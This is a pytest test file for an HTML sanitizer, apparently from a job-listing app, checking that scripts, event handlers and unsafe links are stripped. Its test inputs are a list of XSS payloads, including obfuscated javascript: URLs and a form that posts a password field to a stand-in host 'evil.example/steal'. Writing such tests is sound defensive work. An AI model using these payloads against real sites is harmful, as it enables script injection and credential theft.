"""The sanitizer keeps text structure and safe links, and nothing that runs, loads or submits."""
import pytest

from companion.sanitize import clean_html, html_to_text

XSS = [
    ("<script>alert(1)</script><p>ok</p>", "<p>ok</p>"),
    ('<img src="x" onerror="alert(1)"><p>ok</p>', "<p>ok</p>"),
    ('<p onclick="alert(1)" onmouseover="x()">ok</p>', "<p>ok</p>"),
    ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href=" javascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="&#106;avascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ('<a href="vbscript:msgbox(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ("<svg onload=alert(1)><script>alert(1)</script></svg><p>ok</p>", "<p>ok</p>"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>ok', "ok"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe><p>ok</p>', "<p>ok</p>"),
    ('<iframe src="https://evil.example"></iframe>ok', "ok"),
    ('<base href="https://evil.example/"><p>ok</p>', "<p>ok</p>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example"><p>ok</p>', "<p>ok</p>"),
    ('<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>ok', "ok"),
    ("<style>body{background:url(javascript:alert(1))}</style><p>ok</p>", "<p>ok</p>"),
    ('<p style="background:url(javascript:alert(1))">ok</p>', "<p>ok</p>"),
    ('<object data="evil.swf"></object><embed src="evil.swf">ok', "ok"),
    ("<math><mi xlink:href='javascript:alert(1)'>x</mi></math>ok", "ok"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>', "<p>ok</p>"),
    ("<!-- <script>alert(1)</script> --><p>ok</p>", "<p>ok</p>"),
    ("<scr<script>ipt>alert(1)</script>ok", "ipt&gt;alert(1)ok"),
    ('<template><script>alert(1)</script></template><p>ok</p>', "<p>ok</p>"),
    ('<noscript><img src=x onerror=alert(1)></noscript><p>ok</p>', "<p>ok</p>"),
]


@pytest.mark.parametrize("dirty, clean", XSS, ids=[d[:40] for d, _ in XSS])
def test_clean_html_removes_active_content(dirty, clean):
    assert clean_html(dirty) == clean


def test_clean_html_keeps_structure_and_safe_links():
    html = ('<h2>Role</h2><p>Build <strong>things</strong> and <em>more</em>.</p><ul><li>a</li></ul>'
            '<table><tr><th>k</th><td>v</td></tr></table><a href="https://ok.example/x" target="_blank">ok</a>'
            '<a href="mailto:jobs@ok.example">mail</a>')
    cleaned = clean_html(html)
    assert "<h2>Role</h2>" in cleaned and "<strong>things</strong>" in cleaned and "<li>a</li>" in cleaned
    assert '<a href="https://ok.example/x" rel="noopener noreferrer nofollow">ok</a>' in cleaned
    assert 'href="mailto:jobs@ok.example"' in cleaned
    assert "target" not in cleaned and "<table>" in cleaned


def test_clean_html_resolves_relative_links_only_with_a_base():
    assert 'href="https://jobs.example/apply/1"' in clean_html('<a href="/apply/1">x</a>', "https://jobs.example/j/1")
    assert "href" not in clean_html('<a href="/apply/1">x</a>')


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_clean_html_drops_a_link_it_cannot_parse():
    assert clean_html('<a href="//[x">x</a>', "https://jobs.example/j/1") == '<a rel="noopener noreferrer nofollow">x</a>'


def test_clean_html_drops_unknown_tags_but_keeps_their_text_and_line_breaks():
    assert clean_html("<div>one</div><div>two</div><span class='x'>three</span>") == "one<br>two<br>three"
    assert clean_html("<h1>Title</h1>") == "<h2>Title</h2>"


def test_html_to_text_keeps_paragraphs_and_lists():
    html = "<p>First paragraph.</p><p>Second <b>one</b>.</p><ul><li>a</li><li>b</li></ul>line<br>break &amp; more"
    assert html_to_text(html) == "First paragraph.\n\nSecond one.\n\n- a\n- b\n\nline\nbreak & more"


def test_html_to_text_never_returns_script_text():
    assert html_to_text("<p>hi</p><script>alert('x')</script><style>p{}</style>") == "hi"


def test_empty_input_gives_empty_output():
    assert clean_html("") == "" and html_to_text(None) == ""


def test_clean_html_replaces_lone_surrogates_instead_of_failing():
    assert clean_html("<p>coffee \ud83d</p>") == "<p>coffee \ufffd</p>"
    assert html_to_text("<p>ok \U0001F600</p>") == "ok \U0001F600"
